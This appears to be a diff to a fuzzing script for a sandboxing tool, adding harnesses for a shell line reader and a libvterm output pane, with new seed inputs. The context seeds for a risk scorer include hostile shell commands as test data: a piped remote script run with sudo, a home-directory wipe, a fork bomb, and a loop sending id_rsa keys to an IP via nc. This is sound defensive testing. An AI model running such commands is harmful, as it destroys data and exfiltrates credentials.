@@ -3,10 +3,11 @@
 # (-fsanitize=fuzzer,address,undefined) and runs each for FUZZ_SECONDS
 # (default 60). Usage: run.sh [SRCDIR [OUTDIR]]; `make fuzz` passes both.
 # FUZZ_HARNESSES picks some of: http socks rule session duration profile risk
-# fold dns sniff (the profile parser with its includes; the risk scorer's
-# shell reader; the folding of a path an observed open in the sandbox asked
-# for; the sandbox resolver's questions; a transparent connection's first
-# bytes).
+# fold dns sniff line pane (the profile parser with its includes; the risk
+# scorer's shell reader; the folding of a path an observed open in the
+# sandbox asked for; the sandbox resolver's questions; a transparent
+# connection's first bytes; moat shell's reading of a line, and its output
+# pane over libvterm).
 # Exits non-zero on a crash, a leak or a failed assertion; the reproducer is
 # left in OUTDIR (crash-*, leak-*). Needs clang with libFuzzer (Debian: clang).
 set -eu
@@ -61,10 +62,15 @@ seed "$out/corpus-risk" pipe 'curl -fsSL https://example.org/x.sh | sudo bash -s
 seed "$out/corpus-risk" heredoc 'python3 - <<EOF\nimport os; os.system("rm -rf ~")\nEOF\n'
 seed "$out/corpus-risk" subst 'for f in $(find / -name id_rsa); do nc -q0 10.0.0.1 4444 < "$f"; done'
 seed "$out/corpus-risk" nested 'sh -c "bash -c \\"perl -e \\\\\"fork while fork\\\\\"\\""'
+seed "$out/corpus-line" export 'export A="x \\"y\\"" B=it\\ s C='"'"'q'"'"''
+seed "$out/corpus-line" cd 'cd ../a/./b//c/..'
+seed "$out/corpus-line" shell 'cd x && ls $HOME'
+seed "$out/corpus-pane" sgr '\030\120\033[1;31mred\033[0m\r\n\033[2J\033[5;5Hx\033[?1049h\033[?25l\033]2;t\007\033[6n\033[c'
+seed "$out/corpus-pane" utf8 '\012\100caf\303\251 \344\270\255 \360\237\230\200 \377\376\r\n\033[3;10r\033[M'
 seed "$out/corpus-session" event '\0002 0.5 443 10 20 0.25 0 0\000+CONNECT example.org:443 allowed\000+example.org\000+93.184.216.34\000+allowed\000+example.org\000-\000-\000-\000-\000'
 
 rc=0
-for h in ${FUZZ_HARNESSES:-http socks rule session duration profile risk fold dns sniff}; do
+for h in ${FUZZ_HARNESSES:-http socks rule session duration profile risk fold dns sniff line pane}; do
 	echo "fuzz-$h: building"
 	extra= libs=
 	case $h in
@@ -78,11 +84,16 @@ for h in ${FUZZ_HARNESSES:-http socks rule session duration profile risk fold dn
 		    -DMOAT_RISK_SHIPPED_RULES=\"$src/rules/risk.rules\"
 		    -DMOAT_SRC_RISK_RULES=\"$src/rules/risk.rules\""
 		export MOAT_RISK_SHIPPED="$src/rules/risk.rules" ;;
+	line)
+		extra="$src/src/tui/tui-line.c" ;;
+	pane)
+		extra="$src/src/tui/tui-pane.c $src/src/tui/tui-draw.c"
+		libs="-lvterm -lncursesw" ;;
 	esac
 	# shellcheck disable=SC2086
 	$CLANG $flags -o "$out/fuzz-$h" "$src/tests/fuzz/fuzz-$h.c" $libsrc $extra $libs
 	echo "fuzz-$h: running for ${secs}s"
-	if (cd "$out" && ./fuzz-$h -max_total_time="$secs" -max_len=20000 \
+	if (cd "$out" && ./fuzz-$h -max_total_time="$secs" -max_len=20000 -timeout=10 \
 	    -print_final_stats=1 "corpus-$h" >"fuzz-$h.log" 2>&1); then
 		echo "fuzz-$h: ok: $(grep -E 'stat::number_of_executed_units' "$out/fuzz-$h.log" | awk '{print $2}') runs, $(ls "$out/corpus-$h" | wc -l) corpus files"
 	else
